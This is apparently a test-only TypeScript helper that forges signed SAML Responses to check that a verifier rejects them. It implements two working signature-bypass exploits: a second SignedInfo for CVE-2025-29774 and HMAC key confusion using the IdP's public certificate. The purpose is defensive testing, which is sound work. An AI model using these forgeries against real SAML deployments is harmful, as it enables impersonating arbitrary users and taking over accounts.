/**
 * Forgeries that need no IdP private key, built on a genuinely signed Response (docs/security.md §2 S13,
 * S19): a second ds:SignedInfo whose Reference carries the digest of forged content
 * (CVE-2025-29774), and an HMAC "signature" keyed with the IdP's public certificate
 * (GHSA-c27r-x354-4m68). Each forged document claims another NameID; only a verifier that checks
 * signature structure and algorithm refuses it. Test-only.
 */
import { createHmac } from 'node:crypto';
import { ExclusiveCanonicalization } from 'xml-crypto';
import { directChild, must, NS, parts, parseXml, serializeXml } from './xml-dom.js';
import { assertionDigest, tamperNameId } from './xml-tampering.js';

/** The Assertion's signature of `doc` and its SignedInfo. */
function assertionSignature(doc: Document): { sig: Element; signedInfo: Element } {
  const sig = must(parts(doc).assertionSig, 'Assertion signature');
  return { sig, signedInfo: must(directChild(sig, NS.ds, 'SignedInfo'), 'SignedInfo') };
}

function setDigest(signedInfo: Element, digest: string): void {
  const value = must(signedInfo.getElementsByTagNameNS(NS.ds, 'DigestValue')[0], 'DigestValue');
  while (value.firstChild !== null) value.removeChild(value.firstChild);
  value.appendChild(value.ownerDocument.createTextNode(digest));
}

/**
 * CVE-2025-29774: the Assertion's NameID forged; a copy of the genuine SignedInfo carrying the forged
 * content's digest is added to the Signature, `before` or `after` the genuine one (whose
 * SignatureValue still verifies). A verifier that checks the signature over one SignedInfo and the
 * references of the other accepts.
 */
export function secondSignedInfo(signedXml: string, evilNameId: string, where: 'before' | 'after'): string {
  const forged = tamperNameId(signedXml, evilNameId);
  const digest = assertionDigest(forged);
  const doc = parseXml(forged);
  const { sig, signedInfo } = assertionSignature(doc);
  const evil = signedInfo.cloneNode(true) as Element;
  setDigest(evil, digest);
  sig.insertBefore(evil, where === 'before' ? signedInfo : signedInfo.nextSibling);
  return serializeXml(doc);
}

/**
 * GHSA-c27r-x354-4m68 (HMAC key confusion): the Assertion's NameID forged, its digest recomputed, and
 * SignedInfo "signed" with HMAC-SHA1 (the one HMAC xml-crypto knows) keyed with the IdP's public certificate (PEM, as a verifier
 * configured with that certificate would hold it). Anyone holding the metadata can compute this.
 */
export function hmacWithPublicCert(signedXml: string, evilNameId: string, idpCertPem: string): string {
  const forged = tamperNameId(signedXml, evilNameId);
  const digest = assertionDigest(forged);
  const doc = parseXml(forged);
  const { sig, signedInfo } = assertionSignature(doc);
  setDigest(signedInfo, digest);
  must(signedInfo.getElementsByTagNameNS(NS.ds, 'SignatureMethod')[0], 'SignatureMethod').setAttribute(
    'Algorithm',
    'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
  );
  const keyInfo = directChild(sig, NS.ds, 'KeyInfo');
  if (keyInfo !== undefined) sig.removeChild(keyInfo);
  const canonical = new ExclusiveCanonicalization().process(signedInfo, {});
  const value = must(directChild(sig, NS.ds, 'SignatureValue'), 'SignatureValue');
  while (value.firstChild !== null) value.removeChild(value.firstChild);
  value.appendChild(doc.createTextNode(createHmac('sha1', idpCertPem).update(canonical, 'utf8').digest('base64')));
  return serializeXml(doc);
}
